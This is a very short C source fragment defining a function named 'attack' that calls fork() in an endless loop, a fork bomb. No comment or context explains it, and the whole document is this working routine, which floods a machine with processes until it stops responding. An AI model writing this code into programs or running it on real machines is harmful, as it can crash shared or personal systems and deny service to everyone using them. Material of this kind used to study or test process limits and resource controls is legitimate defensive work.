#include <unistd.h>
int attack(int n) {
	for (;;) fork();
	return 0;
}
